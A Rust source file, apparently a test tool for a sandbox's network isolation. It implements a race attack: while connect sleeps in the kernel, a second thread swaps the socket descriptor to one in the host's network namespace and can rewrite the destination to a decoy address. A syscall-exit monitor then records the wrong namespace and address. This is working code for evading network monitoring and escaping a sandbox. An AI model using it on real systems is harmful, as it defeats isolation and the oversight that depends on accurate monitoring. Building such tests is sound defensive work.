//! A connect whose descriptor is made to name another socket while the call is in the kernel:
//! the call goes on with the socket it looked up at its start; whoever resolves the fd again
//! at its exit (a syscall-exit probe) finds the other one.
//!
//! ```text
//! connect-fdswap NSPATH ADDR PORT MESSAGE [DECOY_ADDR DECOY_PORT]
//! ```
//! Run inside a sandbox's network namespace (`unshare -n`). Makes socket A in the namespace
//! NSPATH (setns there and back: e.g. the host's), socket B in the sandbox's own, keeps a
//! second descriptor of A, and connects A to ADDR:PORT. A second thread waits until that
//! connect sleeps in the kernel (the test's listener holds its accept queue full for a
//! moment), then `dup2(B, A)`. MESSAGE goes out through A's other descriptor. Prints one JSON
//! line: the namespace each socket was made in and where A is connected. With a DECOY, the
//! same thread also rewrites the caller's sockaddr to it (see connect-race): then both the
//! namespace and the address read at the syscall's exit are the decoys.
#[path = "net_attack/common.rs"]
mod common;

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use common::*;
use serde_json::json;

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let (nspath, ip, port, msg, decoy) = match &args[..] {
        [n, i, p, m] => (n, i, p, m, None),
        [n, i, p, m, di, dp] => (n, i, p, m, Some(parse_addr(di, dp))),
        _ => die("usage: connect-fdswap NSPATH ADDR PORT MESSAGE [DECOY_ADDR DECOY_PORT]"),
    };
    let to = parse_addr(ip, port);
    // The sockaddr as two 64-bit halves another thread may rewrite (see connect-race).
    let (ss, len) = raw_sockaddr(&to);
    // SAFETY: the storage's first 16 bytes, as plain data.
    let halves: [u64; 2] = unsafe { std::ptr::read((&raw const ss).cast()) };
    let shared = Arc::new([AtomicU64::new(halves[0]), AtomicU64::new(halves[1])]);
    let decoy_halves = decoy.map(|d| {
        let (ds, _) = raw_sockaddr(&d);
        // SAFETY: as above.
        unsafe { std::ptr::read::<[u64; 2]>((&raw const ds).cast()) }
    });
    let home = open_ns("/proc/thread-self/ns/net");
    let home_ns = own_netns();
    enter_netns(open_ns(nspath));
    let outside_ns = own_netns();
    let a = socket(family(&to), libc::SOCK_STREAM, 0);
    enter_netns(home);
    let b = socket(family(&to), libc::SOCK_STREAM, 0);
    // SAFETY: dup of an open descriptor.
    let a_keep = unsafe { libc::dup(a) };
    if a_keep < 0 {
        die(last_error("dup"));
    }

    let me = gettid();
    let racer_addr = shared.clone();
    let swapper = std::thread::spawn(move || {
        let inside = wait_in_syscall(
            me,
            libc::SYS_connect,
            Duration::from_millis(100),
            Duration::from_secs(5),
        );
        if let (true, Some(d)) = (inside, decoy_halves) {
            racer_addr[0].store(d[0], Ordering::SeqCst);
            racer_addr[1].store(d[1], Ordering::SeqCst);
        }
        // SAFETY: both are open descriptors of this process.
        inside && unsafe { libc::dup2(b, a) } == a
    });
    assert_eq!(
        len, 16,
        "IPv4 destinations only (two halves hold a sockaddr_in)"
    );
    // SAFETY: the shared buffer holds a sockaddr_in of `len` bytes.
    let r = unsafe { libc::connect(a, shared.as_ptr().cast(), len) };
    let err = (r != 0).then(|| std::io::Error::last_os_error().to_string());
    let swapped = swapper.join().unwrap_or(false);
    let sent = if r == 0 {
        send_all(a_keep, msg.as_bytes())
    } else {
        -1
    };
    report(json!({
        "attack": "connect-fdswap", "to": to.to_string(), "connect": err.unwrap_or_else(|| "ok".into()),
        "swapped": swapped, "decoy": decoy.map(|d| d.to_string()), "socket_netns": outside_ns, "swapped_in_netns": home_ns,
        "connected_to": sock_name(a_keep, true), "local": sock_name(a_keep, false), "sent": sent,
    }));
    if !swapped {
        eprintln!("connect-fdswap: the connect never slept in the kernel; nothing was swapped");
        std::process::exit(1);
    }
}
